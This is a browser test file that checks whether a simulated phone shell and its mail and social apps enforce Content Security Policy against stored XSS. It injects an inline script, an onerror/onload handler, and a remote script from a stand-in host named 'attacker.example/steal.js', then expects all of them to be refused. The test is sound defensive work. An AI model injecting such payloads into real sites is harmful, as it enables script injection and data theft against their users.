import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Frame } from 'playwright-core';
import { chromiumPath, hasChromium, openPhoneSession, type PhoneSession } from '../support/browser';

/** Tries what a stored XSS would: an inline script, an inline handler, and a script from elsewhere; answers what ran and what the policy refused. */
const attack = (frame: Frame) =>
  frame.evaluate(async () => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
    const ran = window as unknown as { ranInline?: boolean; ranHandler?: boolean; ranRemote?: boolean };
    const inline = document.createElement('script');
    inline.textContent = 'window.ranInline = true';
    document.head.append(inline);
    const image = document.createElement('div');
    image.innerHTML = '<img src="data:," onerror="window.ranHandler = true" onload="window.ranHandler = true">';
    document.body.append(image);
    const remote = document.createElement('script');
    remote.src = 'https://attacker.example/steal.js';
    document.head.append(remote);
    await new Promise((resolve) => setTimeout(resolve, 300));
    image.remove();
    return { ran: [ran.ranInline, ran.ranHandler, ran.ranRemote].filter(Boolean).length, refused: [...new Set(refused)].sort() };
  });

describe.skipIf(!hasChromium)(`the shell and the built-in apps' pages under their Content Security Policies, in Chromium (skipped without ${chromiumPath})`, () => {
  let session: PhoneSession;

  beforeAll(async () => {
    session = await openPhoneSession({});
  }, 60_000);

  afterAll(async () => {
    await session?.close();
  });

  it('loads the shell and each built-in app with nothing refused, and runs no injected script in either', async () => {
    await session.openPhone();
    await session.unlock();
    for (const [label, id] of [['Contacts', 'contacts'], ['Phone', 'phone'], ['Messages', 'messages'], ['Mail', 'mail'], ['Photos', 'photos'], ['Tweeder', 'tweeder'], ['Cloutgram', 'cloutgram']] as const) {
      await session.openApp(label, id);
      await session.shell.getByRole('button', { name: 'Home' }).click();
    }
    expect(session.refusedByPolicy).toEqual([]);

    await expect(attack(session.shellFrame())).resolves.toEqual({ ran: 0, refused: ['script-src-attr', 'script-src-elem'] });
    const mail = await session.openApp('Mail', 'mail');
    await expect(attack(mail)).resolves.toEqual({ ran: 0, refused: ['script-src-attr', 'script-src-elem'] });
    expect(session.refusedByPolicy.length).toBeGreaterThanOrEqual(6);
    session.refusedByPolicy.length = 0;
  }, 60_000);
});
